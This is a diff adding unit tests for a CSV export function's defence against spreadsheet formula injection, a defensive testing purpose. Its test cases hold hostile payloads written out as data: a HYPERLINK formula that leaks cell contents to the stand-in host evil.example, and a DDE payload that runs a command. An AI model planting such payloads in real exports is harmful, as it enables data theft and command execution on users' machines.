@@ -18,6 +18,33 @@ describe("toCsv", () => {
   it("writes numbers as plain digits and null as an empty cell", () => {
     expect(toCsv([[1234567, null, 0]])).toBe("\uFEFF1234567;;0\r\n");
   });
+
+  // Issue 23, 7: quoting does not stop a spreadsheet from evaluating a cell.
+  it.each([
+    [
+      '=HYPERLINK("http://evil.example/?x="&A1,"Ver")',
+      '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Ver"")"',
+    ],
+    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
+    ["@SUM(1+1)", `"'@SUM(1+1)"`],
+    ["=1+1", `"'=1+1"`],
+    ["-2+3", `"'-2+3"`],
+    ["\t=1+1", `"'\t=1+1"`],
+    ["\r=1+1", `"'\r=1+1"`],
+    ["=1+1\nsegunda línea", `"'=1+1\nsegunda línea"`],
+  ])("writes %j as text a spreadsheet will not run", (cell, written) => {
+    expect(toCsv([["Nombre", cell]])).toBe(`\uFEFFNombre;${written}\r\n`);
+  });
+
+  it("keeps a phone readable: the leading '+' behind a single quote", () => {
+    expect(toCsv([["+56 9 1234 5678"]])).toBe(`\uFEFF"'+56 9 1234 5678"\r\n`);
+  });
+
+  it("leaves numbers and ordinary text alone, negative amounts included", () => {
+    expect(toCsv([[-45000, "Ana = Pérez", "a-b", "ana@nova.cl"]])).toBe(
+      "\uFEFF-45000;Ana = Pérez;a-b;ana@nova.cl\r\n",
+    );
+  });
 });
 
 /** A blob's bytes (jsdom's Blob has no arrayBuffer(); its FileReader does the job). */
